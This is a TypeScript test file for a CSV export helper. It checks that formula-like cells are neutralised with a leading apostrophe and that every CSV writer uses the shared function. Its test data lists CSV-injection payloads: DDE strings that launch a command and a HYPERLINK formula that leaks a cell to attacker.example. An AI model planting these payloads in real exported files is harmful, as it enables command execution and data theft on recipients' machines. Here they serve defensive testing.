import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { csvDocument, csvField } from './csv.ts';

/** The payloads of OWASP's CSV Injection page and their usual variants, as a cell's whole text. */
const OWASP_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://attacker.example/?leak="&A1,"Error: please click")`,
  `=10+20+cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `+1+1`,
  `-2+3+cmd|' /C calc'!E2`,
  `-1+1+cmd|' /C calc'!A0`,
  `-1+1`,
  `-5*cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `@SUM(1,1)`,
  `\t=1+1`,
  `\r=1+1`,
  `\tcmd`,
  `\rcmd`,
  `\n-3+3+cmd|' /C calc'!D2`,
  ` =1+1`,
  `\r\n=1+1`,
  `＝1+1`,
  `＋1+1`,
  `－1+1`,
  `＠SUM(1,1)`,
];

const PLAIN_NUMBERS = ['0', '19', '-12.34', '1234.50', '+5', '-7', '12,5'];

/** A cell's text as a spreadsheet reads it back: quotes removed, doubled quotes single. */
const unquote = (field: string) => field.slice(1, -1).replace(/""/g, '"');

describe('csvField', () => {
  it.each(OWASP_PAYLOADS)('defuses %j with a leading apostrophe and keeps the text', (payload) => {
    const cell = unquote(csvField(payload));
    expect(cell).toBe(`'${payload}`);
  });

  it.each(PLAIN_NUMBERS)('leaves the plain number %j as it is', (value) => {
    expect(unquote(csvField(value))).toBe(value);
  });

  it('leaves ordinary text, dates and e-mail addresses as they are', () => {
    for (const value of ['Müller GmbH', '2026-12-02', 'anna@example.com', 'RE-2026-0001', 'a=b', 'x-1']) {
      expect(unquote(csvField(value))).toBe(value);
    }
  });

  it('quotes every field and doubles quotes inside, so a separator or line break stays in its cell', () => {
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\r\nbreak')).toBe('"line\r\nbreak"');
  });
});

describe('csvDocument', () => {
  it('writes a byte-order mark, semicolons, CRLF and defused fields', () => {
    const text = csvDocument(['name', 'amount'], [[`=1+1`, '-12.34']]);
    expect(text).toBe(`\uFEFFname;amount\r\n"'=1+1";"-12.34"\r\n`);
  });
});

describe('every CSV the product writes', () => {
  it('goes through csvDocument: no other source file joins fields with semicolons', () => {
    const src = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        const file = path.join(dir, entry.name);
        if (entry.isDirectory()) walk(file);
        else if (
          /\.ts$/.test(entry.name) &&
          !/\.test\.ts$/.test(entry.name) &&
          file !== fileURLToPath(import.meta.url).replace(/\.test\.ts$/, '.ts')
        ) {
          const text = fs.readFileSync(file, 'utf8');
          if (/join\(\s*['"];['"]\s*\)/.test(text)) offenders.push(path.relative(src, file));
        }
      }
    };
    walk(src);
    expect(offenders).toEqual([]);
    const writers = fs
      .readdirSync(src, { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.ts$/.test(file) && !/\.test\.ts$/.test(file))
      .filter((file) => fs.readFileSync(path.join(src, file), 'utf8').includes("from '../../lib/csv.ts'"));
    expect(writers.length).toBeGreaterThanOrEqual(2);
  });
});
